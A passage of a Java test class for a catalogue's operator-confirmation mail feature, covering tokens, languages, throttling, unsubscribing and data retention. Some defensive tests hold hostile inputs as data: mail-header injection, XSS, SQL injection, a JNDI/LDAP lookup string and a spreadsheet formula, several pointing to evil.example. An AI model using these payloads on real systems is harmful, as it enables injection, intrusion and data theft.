package be.digicatalogue.confirmation;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.greaterThan;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import be.digicatalogue.ApiTest;
import be.digicatalogue.EmbeddedDatabaseResource;
import be.digicatalogue.Sql;
import be.digicatalogue.TestClock;
import be.digicatalogue.fact.Belgium;
import be.digicatalogue.fact.Language;
import be.digicatalogue.publication.Curating;
import be.digicatalogue.report.Retention;
import be.digicatalogue.report.SecretToken;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.RestAssured;
import io.restassured.config.EncoderConfig;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import io.restassured.response.ValidatableResponse;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import jakarta.mail.Multipart;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.sql.SQLException;
import java.time.LocalDate;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CompletableFuture;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** From the curator who asks, over the mail and the operator who answers, to what the catalogue then says. */
@QuarkusTest
@TestProfile(Mailing.class)
@QuarkusTestResource(value = MailServer.class, restrictToAnnotatedClass = true)
class ConfirmationTest extends ApiTest {

    private static final String POINT = "zonnebeke-bibliotheek";
    private static final String ADDRESS = "bibliotheek@zonnebeke.be";
    private static final Pattern LINK = Pattern.compile("https?://\\S+?(/(?:[a-z]{2}/)?bevestig/[A-Za-z0-9_-]{43})\\b");

    @Inject
    Retention retention;

    @BeforeEach
    void forgetEarlierQuestions() throws Exception {
        Sql.commit(Sql.server(), "DELETE FROM confirmation", "DELETE FROM suppressed_address", "DELETE FROM report");
        MailServer.empty();
    }

    @AfterEach
    void letTheClockGoOn() {
        TestClock.goOn();
    }

    @Test
    void anOperatorIsAskedByMailAndConfirmsOnce() throws Exception {
        unverified(POINT);
        assertFalse(get("/v1/service-points/" + POINT).getList("undated").isEmpty()
                && get("/v1/service-points/" + POINT).getList("overdue").isEmpty());
        long revision = get("/v1").getLong("revision");
        var asked = ask(Map.of("records", List.of(record(POINT))));
        assertTrue(asked.getBoolean("mailed"));
        assertEquals(ADDRESS, asked.getString("items[0].to"));
        assertEquals("queued", asked.getString("items[0].status"));
        assertNull(asked.getString("items[0].link"));
        assertEquals(List.of(), asked.getList("refused"));
        int number = asked.getInt("items[0].number");

        var mail = onlyMail();
        assertEquals(ADDRESS, mail.getAllRecipients()[0].toString());
        assertEquals(1, mail.getAllRecipients().length);
        assertEquals("Klopt dit nog? Digipunt bibliotheek Zonnebeke", mail.getSubject());
        var link = link(mail);
        eventually(() -> status(number).equals("sent"));

        var page = page(link);
        assertEquals(
                "Digipunt bibliotheek Zonnebeke", page.selectFirst("main h2").text());
        assertTrue(page.selectFirst("main").text().contains(ADDRESS));
        assertEquals(revision, get("/v1").getLong("revision"), "showing the page changes nothing");
        send(link, answers(page, "confirmed", "")).then().statusCode(303).header("Location", equalTo("/bevestigd"));

        var today = LocalDate.now(Belgium.ZONE).toString();
        var point = get("/v1/service-points/" + POINT);
        assertEquals(today, point.getString("verifiedOn"));
        assertNull(point.getList("overdue"));
        assertNull(point.getList("undated"));
        assertEquals(
                today,
                items("/v1/service-points?q=Zonnebeke").stream()
                        .filter(item -> item.get("id").equals(POINT))
                        .findFirst()
                        .orElseThrow()
                        .get("verifiedOn"));
        var graph = ask("{ servicePoint(id: \"" + POINT + "\") { verifiedOn overdue undated } }");
        assertEquals(today, graph.getString("servicePoint.verifiedOn"));
        assertEquals(List.of(), graph.getList("servicePoint.overdue"));
        assertEquals(List.of(), graph.getList("servicePoint.undated"));
        assertEquals(revision + 1, get("/v1").getLong("revision"));
        var published = desk().get("/admin/v1/publications").jsonPath();
        assertEquals("confirmation " + number, published.getString("items[0].publishedBy"));
        assertEquals("answered", status(number));
        assertEquals(
                "confirmed", desk().get("/admin/v1/confirmations").jsonPath().getString("items[0].records[0].answer"));

        // The link is spent, and says so.
        assertTrue(Jsoup.parse(given().accept("text/html").get(link).asString())
                .selectFirst("main")
                .text()
                .contains("Deze link werkt niet: hij is al gebruikt, verlopen of onbekend."));
        var spent = given().accept("text/html")
                .get(link)
                .then()
                .statusCode(404)
                .extract()
                .asString();
        assertEquals(
                spent,
                send(link, answers(page, "confirmed", ""))
                        .then()
                        .statusCode(404)
                        .extract()
                        .asString());
        assertEquals(revision + 1, get("/v1").getLong("revision"));
    }

    @Test
    void oneMailListsAllRecordsOfItsAddress() throws Exception {
        var asked = ask(Map.of(
                "records",
                List.of(
                        record("denderleeuw-bibliotheek"),
                        record(POINT),
                        record("denderleeuw-koetshuis"),
                        record("beernem-bibliotheek"))));
        assertEquals(2, asked.getList("items").size());
        assertEquals(
                List.of("denderleeuw-bibliotheek", "denderleeuw-koetshuis"),
                asked.getList("items[0].records.record.id"));
        assertEquals(List.of("no-address"), asked.getList("refused.code"));
        assertEquals("beernem-bibliotheek", asked.getString("refused[0].records[0].record.id"));
        eventually(() -> MailServer.arrived().size() == 2);
        var mail = mailTo("buurtcomputer@denderleeuw.be");
        assertEquals("Kloppen deze 2 plekken nog?", mail.getSubject());
        for (var part : parts(mail)) {
            assertTrue(part.contains("/digibanken/denderleeuw-bibliotheek"), part);
            assertTrue(part.contains("/digibanken/denderleeuw-koetshuis"), part);
            assertEquals(1, links(part).stream().distinct().count());
        }
        assertEquals(2, page(link(mail)).select("section.confirm").size());
        assertEquals(MailServer.SENDER, mail.getFrom()[0].toString());
    }

    @Test
    void anAddressIsAskedOnceInFourteenDays() {
        TestClock.stopAt("2027-02-01T10:00:00");
        assertEquals(
                1,
                ask(Map.of("records", List.of(record(POINT)))).getList("items").size());
        eventually(() -> MailServer.arrived().size() == 1);
        var again = ask(Map.of("records", List.of(record(POINT))));
        assertEquals(List.of(), again.getList("items"));
        assertEquals("asked-recently", again.getString("refused[0].code"));
        assertTrue(again.getString("refused[0].detail").contains("2027-02-15"), again::prettify);
        // Capitals do not make it another address, and neither does another record.
        assertEquals(
                "asked-recently",
                ask(Map.of(
                                "records", List.of(record("beernem-bibliotheek")),
                                "to", "Bibliotheek@Zonnebeke.BE",
                                "reason", "Dezelfde mensen"))
                        .getString("refused[0].code"));
        TestClock.stopAt("2027-02-15T09:59:59");
        assertEquals(
                1,
                ask(Map.of("records", List.of(record(POINT))))
                        .getList("refused")
                        .size());
        TestClock.stopAt("2027-02-15T10:00:01");
        assertEquals(
                1,
                ask(Map.of("records", List.of(record(POINT)))).getList("items").size());
        eventually(() -> MailServer.arrived().size() == 2);
    }

    @Test
    void anAddressOfTheCuratorNeedsAReasonWhichIsKept() {
        var records = List.of(record("beernem-bibliotheek"));
        refused(Map.of("records", records, "to", "info@beernem.be")).body("issues.name", equalTo(List.of("reason")));
        ask(Map.of("records", records, "to", "info@beernem.be", "reason", "Staat op de website"));
        var stored = desk().get("/admin/v1/confirmations").jsonPath();
        assertEquals("info@beernem.be", stored.getString("items[0].to"));
        assertEquals("Staat op de website", stored.getString("items[0].reason"));
        assertEquals("els", stored.getString("items[0].askedBy"));
        eventually(() -> MailServer.arrived().size() == 1);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '"',
            value = {
                "{}|records",
                "{'records':[]}|records",
                "{'records':'all'}|records",
                "{'records':[{'type':'service-points'}]}|records[0]",
                "{'records':[{'type':'service-points','id':'x','name':'y'}]}|records[0]",
                "{'records':[{'type':'provinces','id':'limburg'}]}|records[0].type",
                "{'records':[{'type':'service-points','id':'nowhere'}]}|records[0].id",
                "{'records':[{'type':'partners','id':'vives'}],'lang':'es'}|lang",
                "{'records':[{'type':'partners','id':'vives'}],'subject':'x'}|subject",
                "{'records':[{'type':'partners','id':'vives'}],'to':'x','reason':'y'}|to",
            })
    void whatIsNoQuestionIsRefusedByName(String body, String name) {
        var answer = desk().contentType("application/json")
                .body(body.replace('\'', '"'))
                .post("/admin/v1/confirmations")
                .then()
                .statusCode(400)
                .extract();
        assertEquals(List.of(name), answer.path("issues.name"));
        assertEquals(0, desk().get("/admin/v1/confirmations").jsonPath().getInt("total"));
        given().contentType("application/json")
                .body("{}")
                .post("/admin/v1/confirmations")
                .then()
                .statusCode(401);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "info@beernem.be\\r\\nBcc: x@evil.example",
                "info@beernem.be\\nSubject: x",
                "info@beernem.be%0d%0aBcc:x@evil.example",
                "info@beernem.be, x@evil.example",
                "<info@beernem.be> x@evil.example",
                "info@beernem.be\\u0000",
                "info@beernem.be\\u2028Bcc: x@evil.example"
            })
    void anAddressCannotAddAHeader(String to) {
        desk().contentType("application/json")
                .body("{\"records\":[{\"type\":\"service-points\",\"id\":\"" + POINT + "\"}],\"to\":\"" + to
                        + "\",\"reason\":\"x\"}")
                .post("/admin/v1/confirmations")
                .then()
                .statusCode(400)
                .body("issues.name", equalTo(List.of("to")));
    }

    @Test
    void aNameOrAReasonCannotAddAHeaderAndIsTextEverywhere() throws Exception {
        refused(Map.of(
                        "records",
                        List.of(record(POINT)),
                        "to",
                        "info@zonnebeke.be",
                        "reason",
                        "x\r\nBcc: x@evil.example"))
                .body("issues.name", equalTo(List.of("reason")));
        var name = "Bib\r\nBcc: x@evil.example\r\n\r\n<script>alert(1)</script> \u202eb {letter.link} =1+1";
        publish("UPDATE service_point SET name = E'" + name.replace("\r", "\\r").replace("\n", "\\n") + "' WHERE id = '"
                + POINT + "'");
        try {
            ask(Map.of("records", List.of(record(POINT))));
            var mail = onlyMail();
            assertEquals(1, mail.getAllRecipients().length);
            assertNull(mail.getHeader("Bcc"));
            assertFalse(mail.getSubject().contains("\n"), mail.getSubject());
            assertFalse(mail.getSubject().contains("\u202e"), mail.getSubject());
            var html = Jsoup.parse(parts(mail).get(1));
            assertTrue(html.select("script").isEmpty());
            assertTrue(html.text().contains("<script>alert(1)</script>"));
            assertTrue(html.text().contains("{letter.link}"));
            assertFalse(parts(mail).get(0).contains("\u202e"));
            var page = page(link(mail));
            assertTrue(page.select("main script").isEmpty());
            assertTrue(page.selectFirst("main h2").text().contains("<script>alert(1)</script>"));
        } finally {
            publish("UPDATE service_point SET name = 'Digipunt bibliotheek Zonnebeke' WHERE id = '" + POINT + "'");
        }
    }

    @Test
    void theMailAndItsPageAreInFourLanguages() throws Exception {
        for (var language : Language.values()) {
            ask(Map.of(
                    "records",
                    List.of(record(POINT)),
                    "to",
                    language.tag() + "@zonnebeke.be",
                    "reason",
                    "Elke taal",
                    "lang",
                    language.tag()));
        }
        eventually(() -> MailServer.arrived().size() == 4);
        var subjects = new HashSet<String>();
        for (var language : Language.values()) {
            var mail = mailTo(language.tag() + "@zonnebeke.be");
            subjects.add(mail.getSubject());
            assertEquals(
                    language.tag(),
                    Jsoup.parse(parts(mail).get(1)).selectFirst("html").attr("lang"));
            var link = link(mail);
            assertEquals(language == Language.NL, link.startsWith("/bevestig/"), link);
            var page = page(link);
            assertEquals(language.tag(), page.selectFirst("html").attr("lang"));
            assertEquals(3, page.select("fieldset label").size());
            send(link, answers(page, "unknown", ""))
                    .then()
                    .statusCode(303)
                    .header("Location", equalTo((language == Language.NL ? "" : "/" + language.tag()) + "/bevestigd"));
            assertFalse(page((language == Language.NL ? "" : "/" + language.tag()) + "/bevestigd")
                    .selectFirst("main .lead")
                    .text()
                    .isBlank());
        }
        assertEquals(4, subjects.size(), subjects::toString);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "=HYPERLINK(\"http://evil.example\")",
                "{visit.base}{/if}",
                "'; DROP TABLE report; --",
                "${jndi:ldap://evil.example}",
                "%0d%0aSet-Cookie: a=b"
            })
    void aCorrectionBecomesAReportAndStaysText(String text) throws Exception {
        long revision = get("/v1").getLong("revision");
        ask(Map.of("records", List.of(record(POINT))));
        var link = link(onlyMail());
        var page = page(link);
        // Without the choice it is not sent, and stays.
        var incomplete = answers(page, "corrected", text);
        incomplete.remove("answer.0");
        var again = Jsoup.parse(
                send(link, incomplete).then().statusCode(400).extract().asString());
        assertEquals(text, again.selectFirst("textarea").text());
        assertFalse(again.selectFirst(".wrong li").text().isBlank());
        assertTrue(again.select("main script, main img").isEmpty());
        send(link, answers(page, "corrected", "")).then().statusCode(400);
        send(link, answers(page, "corrected", text)).then().statusCode(303);
        var report = desk().get("/admin/v1/reports").jsonPath();
        assertEquals(1, report.getInt("total"));
        assertEquals(text, report.getString("items[0].message"));
        assertEquals("operator", report.getString("items[0].origin"));
        assertEquals(POINT, report.getString("items[0].record.id"));
        var stored = desk().get("/admin/v1/confirmations?status=answered").jsonPath();
        assertEquals("corrected", stored.getString("items[0].records[0].answer"));
        assertEquals(report.getInt("items[0].number"), stored.getInt("items[0].records[0].report"));
        assertEquals(revision, get("/v1").getLong("revision"), "a correction publishes nothing");
        given().accept("text/html").get(link).then().statusCode(404);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\u0000",
                "\u0007bell",
                "a\u202eb",
                "a\u2066b",
                "zero\u200bwidth",
                "\ufeffmark",
                "escape \u001b[31m"
            })
    void charactersThatNobodySeesAreRefusedInACorrection(String text) throws Exception {
        ask(Map.of("records", List.of(record(POINT))));
        var link = link(onlyMail());
        send(link, answers(page(link), "corrected", "x" + text)).then().statusCode(400);
        assertEquals(0, desk().get("/admin/v1/reports").jsonPath().getInt("total"));
        given().accept("text/html").get(link).then().statusCode(200);
    }

    @Test
    void whatChangedMeanwhileIsShownAnewAndTheLinkIsNotSpent() throws Exception {
        unverified(POINT);
        ask(Map.of(
                "records",
                List.of(record(POINT), record("zwevegem-bibliotheek")),
                "to",
                "beide@zonnebeke.be",
                "reason",
                "Beide"));
        var link = link(onlyMail());
        var page = page(link);
        var answers = answers(page, "confirmed", "");
        answers.put("answer.1", "corrected");
        answers.put("correction.1", "Andere uren");
        long revision = publish(
                "UPDATE service_point SET phone = '+3251480690' WHERE id = '" + POINT + "'",
                "UPDATE service_point SET phone = '+3251480691' WHERE id = '" + POINT + "'");
        var anew =
                Jsoup.parse(send(link, answers).then().statusCode(409).extract().asString());
        assertTrue(anew.text().contains("+3251480691"));
        assertTrue(anew.select("input[name=answer.0][checked]").isEmpty(), "what changed is looked at again");
        assertEquals(
                "corrected", anew.selectFirst("input[name=answer.1][checked]").val());
        assertEquals(
                "Andere uren", anew.selectFirst("textarea[name=correction.1]").text());
        assertEquals(revision, get("/v1").getLong("revision"));
        assertEquals(0, desk().get("/admin/v1/reports").jsonPath().getInt("total"));
        // A day with other hours is a part of the record.
        var second = answers(anew, "confirmed", "");
        publish("INSERT INTO opening_exception (service_point, valid_from, valid_to, hours, urls)"
                + " SELECT id, '2099-01-05', '2099-01-09', 'off', urls FROM service_point WHERE id = '" + POINT + "'");
        var third =
                Jsoup.parse(send(link, second).then().statusCode(409).extract().asString());
        assertTrue(third.selectFirst("section.confirm").text().contains("2099"), third::text);
        send(link, answers(third, "confirmed", "")).then().statusCode(303);
        assertEquals(
                LocalDate.now(Belgium.ZONE).toString(),
                get("/v1/service-points/" + POINT).getString("verifiedOn"));
        publish("DELETE FROM opening_exception WHERE service_point = '" + POINT + "' AND valid_from = '2099-01-05'");
    }

    @Test
    void twoAnswersAtOnceSpendTheLinkOnce() throws Exception {
        unverified(POINT);
        ask(Map.of("records", List.of(record(POINT))));
        var link = link(onlyMail());
        var answers = answers(page(link), "confirmed", "");
        long revision = get("/v1").getLong("revision");
        var statuses = Stream.generate(() ->
                        CompletableFuture.supplyAsync(() -> send(link, answers).statusCode()))
                .limit(6)
                .toList()
                .stream()
                .map(CompletableFuture::join)
                .toList();
        assertEquals(1, statuses.stream().filter(status -> status == 303).count(), statuses::toString);
        assertEquals(revision + 1, get("/v1").getLong("revision"));
    }

    @Test
    void forgedAlteredExpiredSpentAndForeignLinksHaveOneAnswerAndWriteNothing() throws Exception {
        TestClock.stopAt("2027-01-11T10:00:00");
        ask(Map.of("records", List.of(record(POINT))));
        var link = link(onlyMail());
        var page = page(link);
        var token = link.substring(link.lastIndexOf('/') + 1);
        var foreign = given().header("X-Forwarded-For", "198.51.100.9")
                .contentType("application/json")
                .body(Map.of("type", "service-points", "id", POINT, "problem", "closed"))
                .post("/v1/reports")
                .then()
                .statusCode(201)
                .extract()
                .header("Location");
        var before = everything();
        var fields = answers(page, "confirmed", "");
        var answers = new HashSet<String>();
        var random = new Random(24);
        for (int i = 0; i < 200; i++) {
            var forged = i % 2 == 0
                    ? SecretToken.random().text()
                    : altered(token, random.nextInt(token.length()), (char) ('a' + random.nextInt(26)));
            if (!forged.equals(token)) {
                answers.addAll(unknown(forged, fields));
            }
        }
        answers.addAll(unknown("x", fields));
        answers.addAll(unknown(foreign.substring(foreign.lastIndexOf('/') + 1), fields));
        assertEquals(before, everything());
        TestClock.stopAt("2027-02-10T10:00:01");
        answers.addAll(unknown(token, fields));
        assertEquals(before, everything());
        TestClock.stopAt("2027-02-10T09:59:59");
        given().accept("text/html").get(link).then().statusCode(200);
        send(link, answers(page, "unknown", "")).then().statusCode(303);
        before = everything();
        answers.addAll(unknown(token, fields));
        assertEquals(before, everything());
        assertEquals(1, answers.size(), answers::toString);
    }

    /** What the page, the form and the form that unsubscribes answer, without the address, which the links to languages have. */
    private static Set<String> unknown(String token, Map<String, String> fields) {
        var answers = new HashSet<String>();
        answers.add(given().accept("text/html")
                .get("/bevestig/" + token)
                .then()
                .statusCode(404)
                .extract()
                .asString());
        answers.add(send("/bevestig/" + token, fields)
                .then()
                .statusCode(404)
                .extract()
                .asString());
        answers.add(send("/bevestig/" + token + "/afmelden", Map.of("List-Unsubscribe", "One-Click"))
                .then()
                .statusCode(404)
                .extract()
                .asString());
        return answers.stream()
                .map(answer -> answer.replace("/bevestig/" + token + "/afmelden", "/bevestig/*")
                        .replace("/bevestig/" + token, "/bevestig/*"))
                .collect(Collectors.toSet());
    }

    @Test
    void aFloodOfMailScannersWritesNothing() throws Exception {
        ask(Map.of("records", List.of(record(POINT))));
        var link = link(onlyMail());
        eventually(() ->
                desk().get("/admin/v1/confirmations?status=sent").jsonPath().getInt("total") == 1);
        var before = everything();
        for (int i = 0; i < 125; i++) {
            for (var address : List.of(link, link + "/afmelden")) {
                assertEquals(200, given().accept("text/html").get(address).statusCode());
                assertEquals(200, given().accept("text/html").head(address).statusCode());
            }
        }
        assertEquals(before, everything());
    }

    @Test
    void whoUnsubscribesGetsNoMailAnyMore() throws Exception {
        ask(Map.of("records", List.of(record(POINT))));
        var mail = onlyMail();
        var link = link(mail);
        assertEquals("List-Unsubscribe=One-Click", mail.getHeader("List-Unsubscribe-Post")[0]);
        var header = mail.getHeader("List-Unsubscribe")[0];
        assertTrue(header.matches("<http\\S+" + link + "/afmelden>"), header);
        assertFalse(page(link + "/afmelden").select("form[method=post]").isEmpty());
        assertEquals(0, count("suppressed_address"));
        // As a mail program sends it, and again.
        for (int i = 0; i < 2; i++) {
            given().redirects()
                    .follow(false)
                    .multiPart("List-Unsubscribe", "One-Click")
                    .post(link + "/afmelden")
                    .then()
                    .statusCode(200);
        }
        assertEquals(1, count("suppressed_address"));
        assertEquals(0, count("suppressed_address WHERE suppressed_address::text LIKE '%zonnebeke%'"));
        TestClock.stopAt("2028-01-01T10:00:00");
        assertEquals(
                "unsubscribed", ask(Map.of("records", List.of(record(POINT)))).getString("refused[0].code"));
        assertEquals(1, MailServer.arrived().size());
        TestClock.goOn();
        // The question itself may still be answered.
        send(link, answers(page(link), "unknown", "")).then().statusCode(303);
    }

    @Test
    void aMailThatCannotBeSentIsTriedAgainUntilItFails() throws Exception {
        TestClock.stopAt("2027-05-01T10:00:00");
        MailServer.away();
        try {
            int number = ask(Map.of("records", List.of(record(POINT)))).getInt("items[0].number");
            var attempts = new String[] {
                "2027-05-01T10:01:01",
                "2027-05-01T10:06:02",
                "2027-05-01T10:36:03",
                "2027-05-01T12:36:04",
                "2027-05-01T20:36:05"
            };
            for (int i = 0; i < attempts.length; i++) {
                awaitAttempt(number, i + 1);
                assertEquals("queued", status(number));
                TestClock.stopAt(attempts[i]);
            }
            eventually(() -> status(number).equals("failed"));
            assertFalse(desk().get("/admin/v1/confirmations?status=failed")
                    .jsonPath()
                    .getString("items[0].error")
                    .isBlank());
            assertEquals(1, metric("catalogue_mail_failing"));
            assertTrue(metric("catalogue_mails_total{outcome=\"failed\"}") >= 1);
            // It does not count as asked.
            MailServer.back();
            ask(Map.of("records", List.of(record(POINT))));
            assertEquals(1, onlyMail().getAllRecipients().length);
            eventually(() -> metric("catalogue_mail_failing") == 0);
        } finally {
            MailServer.away();
            MailServer.back();
        }
    }

    private static void awaitAttempt(int number, int attempt) {
        eventually(() -> desk().get("/admin/v1/confirmations")
                        .jsonPath()
                        .getString("items.find { it.number == " + number + " && it.attempts == " + attempt + " }.error")
                != null);
    }

    private static double metric(String name) {
        return given().get("/q/metrics")
                .asString()
                .lines()
                .filter(line -> line.startsWith(name + " "))
                .mapToDouble(line -> Double.parseDouble(line.substring(line.lastIndexOf(' ') + 1)))
                .findFirst()
                .orElseThrow();
    }

    @Test
    void someMailsAMinuteAreSentAndTheQueueIsBounded() {
        TestClock.stopAt("2027-06-01T10:00:00");
        for (int i = 0; i < Mailing.QUEUE + Mailing.PER_MINUTE + 5; i++) {
            var outcome = ask(
                    Map.of("records", List.of(record(POINT)), "to", "plek" + i + "@zonnebeke.be", "reason", "Druk"));
            if (!outcome.getList("refused").isEmpty()) {
                assertEquals("queue-full", outcome.getString("refused[0].code"));
                assertTrue(i >= Mailing.QUEUE, "refused at " + i);
            }
        }
        eventually(() -> MailServer.arrived().size() == Mailing.PER_MINUTE);
        assertTrue(
                desk().get("/admin/v1/confirmations?status=queued").jsonPath().getInt("total") <= Mailing.QUEUE);
        assertEquals(Mailing.PER_MINUTE, MailServer.arrived().size());
        TestClock.stopAt("2027-06-01T10:01:01");
        eventually(() -> MailServer.arrived().size() == 2 * Mailing.PER_MINUTE);
    }

    @Test
    void whatIsNotNeededAnyLongerIsRemoved() throws Exception {
        TestClock.stopAt("2027-01-10T12:00:00");
        ask(Map.of("records", List.of(record(POINT))));
        onlyMail();
        eventually(() -> count("confirmation WHERE state = 'sent'") == 1);
        TestClock.stopAt("2027-02-09T11:59:59");
        assertEquals(0, forget());
        TestClock.stopAt("2027-02-09T12:00:01");
        assertEquals(1, forget());
        assertEquals(0, count("confirmation WHERE token_hash IS NOT NULL"));
        assertEquals(
                ADDRESS,
                desk().get("/admin/v1/confirmations?status=unanswered")
                        .jsonPath()
                        .getString("items[0].to"));
        var work = desk().get("/admin/v1/worklist?task=unanswered&lang=en").jsonPath();
        assertEquals(List.of(POINT), work.getList("items.key"));
        assertEquals("The operator did not answer the question of 2027-01-10.", work.getString("items[0].why"));
        TestClock.stopAt("2027-04-10T13:00:01");
        assertEquals(1, forget());
        assertEquals(0, count("confirmation WHERE address IS NOT NULL OR address_hash IS NOT NULL"));
        assertNull(desk().get("/admin/v1/confirmations").jsonPath().getString("items[0].to"));
        assertEquals(0, forget());
    }

    @Test
    void aRestoredBackUpVoidsLinksAndSendsNoMail() throws Exception {
        ask(Map.of("records", List.of(record(POINT))));
        var link = link(onlyMail());
        eventually(() -> count("confirmation WHERE state = 'sent'") == 1);
        var fields = answers(page(link), "confirmed", "");
        // A back-up that is restored is another database.
        Sql.commit(Sql.server(), "UPDATE confirmation SET token_home = '1-2-3'");
        given().accept("text/html").get(link).then().statusCode(404);
        send(link, fields).then().statusCode(404);
        Sql.commit(Sql.server(), "UPDATE confirmation SET token_home = secret_home()");
        given().accept("text/html").get(link).then().statusCode(200);
        Sql.commit(Sql.server(), "SELECT void_secret_addresses()");
        given().accept("text/html").get(link).then().statusCode(404);
        // What waited in it was sent before, or will be by the other database.
        TestClock.stopAt("2027-07-01T10:00:00");
        MailServer.away();
        try {
            ask(Map.of("records", List.of(record("zwevegem-bibliotheek"))));
            eventually(() -> count("confirmation WHERE error IS NOT NULL") == 1);
            Sql.commit(Sql.server(), "UPDATE confirmation SET token_home = '1-2-3'");
        } finally {
            MailServer.back();
        }
        TestClock.stopAt("2027-07-01T11:00:00");
        forget();
        assertEquals("failed", desk().get("/admin/v1/confirmations").jsonPath().getString("items[0].status"));
        assertEquals(0, MailServer.arrived().size());
    }

    @Test
    void aLinkIsForNobodyElse() throws Exception {
        ask(Map.of("records", List.of(record(POINT))));
        var link = link(onlyMail());
        var token = link.substring(link.lastIndexOf('/') + 1);
        for (var secret : List.of(
                link,
                "/fr" + link,
                link + "/",
                link + "/afmelden",
                link + "/x",
                link + "x",
                "/%62evestig/" + token,
                "//bevestig/" + token,
                "/bevestig;a=b/" + token)) {
            for (var method : List.of("GET", "HEAD", "POST", "DELETE", "OPTIONS")) {
                for (var accept : List.of("text/html", "application/json")) {
                    var answer = given().urlEncodingEnabled(false)
                            .accept(accept)
                            .header("Origin", "https://elsewhere.example")
                            .redirects()
                            .follow(false)
                            .request(method, secret);
                    var what = method + " " + secret + " " + answer.statusCode();
                    assertEquals("private, no-store", answer.header("Cache-Control"), what);
                    assertEquals("no-referrer", answer.header("Referrer-Policy"), what);
                    assertEquals("noindex", answer.header("X-Robots-Tag"), what);
                    assertNull(answer.header("ETag"), what);
                    assertNull(answer.header("Access-Control-Allow-Origin"), what);
                    // The page itself names its own address, and nothing else does.
                    if (!accept.equals("text/html") && answer.statusCode() != 200) {
                        assertFalse(answer.asString().contains(token), what);
                    }
                }
            }
        }
        // Another site cannot have its visitors confirm.
        given().header("Sec-Fetch-Site", "cross-site")
                .formParams(answers(page(link), "confirmed", ""))
                .post(link)
                .then()
                .statusCode(403);
        given().accept("text/html").get(link).then().statusCode(200);
        eventually(() -> log().contains("/bevestig/*"));
        assertFalse(log().contains(token.substring(2, 30)));
        assertFalse(log().contains(ADDRESS), "no address in the log");
        assertFalse(given().get("/q/metrics").asString().contains(token.substring(2, 30)));
    }

    @Test
    void withTheDatabaseAwayNothingIsPretendedAndTheAnswersStay() throws Exception {
        ask(Map.of("records", List.of(record(POINT))));
        var link = link(onlyMail());
        var fields = answers(page(link), "corrected", "Wat ik typte");
        EmbeddedDatabaseResource.stopDatabase();
        try {
            given().accept("text/html").get(link).then().statusCode(503);
            var form = Jsoup.parse(send(link, fields)
                    .then()
                    .statusCode(503)
                    .header("Retry-After", Integer::parseInt, greaterThan(0))
                    .extract()
                    .asString());
            assertEquals("Wat ik typte", form.selectFirst("textarea").text());
            assertEquals(
                    "corrected", form.selectFirst("input[type=radio][checked]").val());
            assertEquals(fields, answers(form, "corrected", "Wat ik typte"));
            send(link + "/afmelden", Map.of("List-Unsubscribe", "One-Click"))
                    .then()
                    .statusCode(503);
            desk().contentType("application/json")
                    .body(Map.of("records", List.of(record("zwevegem-bibliotheek"))))
                    .post("/admin/v1/confirmations")
                    .then()
                    .statusCode(503);
        } finally {
            EmbeddedDatabaseResource.startDatabase();
        }
        eventually(() -> given().accept("text/html").get(link).statusCode() == 200);
        eventually(() -> send(link, fields).statusCode() == 303);
    }

    /** Each column of the tables is named, so that nothing is kept which the page does not tell. */
    @ParameterizedTest
    @ValueSource(strings = {"confirmation", "confirmation_record", "suppressed_address", "mail_key"})
    void thePageOfPrivacyTellsOfEveryColumn(String table) throws SQLException {
        var columns = new TreeSet<String>();
        try (var connection = Sql.owner();
                var statement = connection.createStatement();
                var rows = statement.executeQuery(
                        "SELECT column_name FROM information_schema.columns WHERE table_name = '" + table + "'")) {
            while (rows.next()) {
                columns.add(rows.getString(1));
            }
        }
        assertFalse(columns.isEmpty());
        for (var language : List.of("", "/fr", "/de", "/en")) {
            var page = page(language + "/privacy");
            assertEquals(
                    columns,
                    new TreeSet<>(page.select("#" + table + " tbody th").eachText()));
            assertTrue(page.select("#" + table + " td").eachText().stream().noneMatch(String::isBlank));
        }
    }

    private int forget() {
        return retention.run().await().indefinitely();
    }

    private static int count(String rows) {
        try (var connection = Sql.server();
                var statement = connection.createStatement();
                var answer = statement.executeQuery("SELECT count(*) FROM " + rows)) {
            answer.next();
            return answer.getInt(1);
        } catch (SQLException fault) {
            throw new IllegalStateException(fault);
        }
    }

    /** All that an answer or a flood could write, as text. */
    private static String everything() throws SQLException {
        try (var connection = Sql.server();
                var statement = connection.createStatement();
                var answer = statement.executeQuery("""
                        SELECT concat((SELECT string_agg(c::text, ';' ORDER BY number) FROM confirmation AS c),
                                      (SELECT string_agg(r::text, ';' ORDER BY confirmation, position)
                                       FROM confirmation_record AS r),
                                      (SELECT count(*) FROM suppressed_address), (SELECT count(*) FROM report),
                                      (SELECT max(number) FROM revision), (SELECT max(position) FROM change))""")) {
            answer.next();
            return answer.getString(1);
        }
    }

    private static String altered(String token, int at, char to) {
        return token.substring(0, at) + to + token.substring(at + 1);
    }

    private static String log() {
        try {
            // The mail server of the test has its own lines.
            return Files.readString(Curating.LOG)
                    .lines()
                    .filter(line -> !line.startsWith("com.icegreen"))
                    .collect(Collectors.joining("\n"));
        } catch (IOException e) {
